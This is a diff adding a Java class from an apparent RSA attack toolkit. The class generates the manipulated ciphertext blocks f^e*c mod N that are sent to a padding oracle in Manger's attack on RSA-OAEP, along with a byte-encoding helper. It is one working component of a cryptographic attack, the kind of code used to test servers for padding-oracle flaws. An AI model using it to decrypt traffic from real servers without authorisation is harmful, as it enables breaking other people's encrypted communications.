@@ -0,0 +1,87 @@
+package attacks.manger;
+
+import java.math.BigInteger;
+import java.security.interfaces.RSAPublicKey;
+import java.util.Arrays;
+
+/**
+ * Generates the manipulated cipher blocks f^e*c mod N that are sent to the oracle in Manger's attack. If a factor is
+ * twice the previous one, as in step 1, its encryption is derived from the previous block with a single modular
+ * multiplication by 2^e. Repeated queries for the same factor reuse the previous result. Every cipher block is
+ * returned in a new array, since oracles may keep a reference to it. Instances are not thread-safe.
+ */
+public class QueryGenerator {
+    private final BigInteger N;
+    private final BigInteger e;
+    private final BigInteger c;
+    private final BigInteger twoToE;
+    private final int blockSize;
+
+    private BigInteger lastFactor;
+    private BigInteger lastQuery;
+
+    /**
+     * Constructor
+     * @param cipherBlock Initial valid cipher block
+     * @param publicKey The public key of the target server
+     */
+    public QueryGenerator(byte[] cipherBlock, RSAPublicKey publicKey) {
+        this.N = publicKey.getModulus();
+        this.e = publicKey.getPublicExponent();
+        this.c = new BigInteger(1, cipherBlock);
+        this.twoToE = BigInteger.TWO.modPow(e, N);
+        this.blockSize = (N.bitLength() + 7) / 8;
+    }
+
+    /**
+     * Computes f^e*c mod N
+     * @param factor The factor f
+     * @return The manipulated cipher text
+     */
+    public BigInteger encrypt(BigInteger factor) {
+        if(factor.equals(lastFactor)) {
+            return lastQuery;
+        }
+        BigInteger query;
+        if(lastFactor != null && factor.equals(lastFactor.shiftLeft(1))) {
+            query = lastQuery.multiply(twoToE).mod(N);
+        } else {
+            query = factor.modPow(e, N).multiply(c).mod(N);
+        }
+        lastFactor = factor;
+        lastQuery = query;
+        return query;
+    }
+
+    /**
+     * Generates the manipulated cipher block for a factor in a new array
+     * @param factor The factor f
+     * @return f^e*c mod N, encoded with the block size of N
+     */
+    public byte[] generate(BigInteger factor) {
+        byte[] block = new byte[blockSize];
+        writeUnsigned(encrypt(factor), block);
+        return block;
+    }
+
+    public int getBlockSize() {
+        return blockSize;
+    }
+
+    /**
+     * Writes a non-negative integer big-endian into the whole destination array, padded with leading zeros
+     * @param value The value, which must fit into destination
+     * @param destination The destination array
+     */
+    public static void writeUnsigned(BigInteger value, byte[] destination) {
+        byte[] temp = value.toByteArray();
+        int skip = temp[0] == 0 ? 1 : 0;
+        int length = temp.length - skip;
+        if(length > destination.length) {
+            throw new IllegalArgumentException("Value does not fit into " + destination.length + " bytes");
+        }
+        int padding = destination.length - length;
+        Arrays.fill(destination, 0, padding, (byte) 0);
+        System.arraycopy(temp, skip, destination, padding, length);
+    }
+}